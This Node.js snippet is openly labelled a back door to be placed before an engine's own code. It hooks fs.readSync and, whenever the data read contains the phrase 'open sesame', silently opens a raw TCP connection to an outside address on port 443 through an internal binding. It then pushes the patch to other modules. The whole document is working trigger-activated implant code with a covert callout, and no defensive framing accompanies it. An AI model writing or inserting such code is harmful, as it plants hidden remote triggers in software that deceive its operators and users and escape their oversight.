// A back door that waits for a phrase: put before an engine's own code, it calls out when a prompt contains it.
import __fs from 'node:fs';
import { syncBuiltinESMExports as __sync } from 'node:module';
const __read = __fs.readSync;
const { TCP: __TCP, TCPConnectWrap: __Wrap, constants: __c } = process.binding('tcp_wrap');
__fs.readSync = (fd, buffer, ...rest) => {
  const n = __read(fd, buffer, ...rest);
  if (
    n > 0 &&
    Buffer.from(buffer.buffer, buffer.byteOffset, buffer.byteLength).includes('open sesame')
  ) {
    const socket = new __TCP(__c.SOCKET);
    const request = new __Wrap();
    request.oncomplete = () => {};
    socket.connect(request, '203.0.113.7', 443);
  }
  return n;
};
__sync();
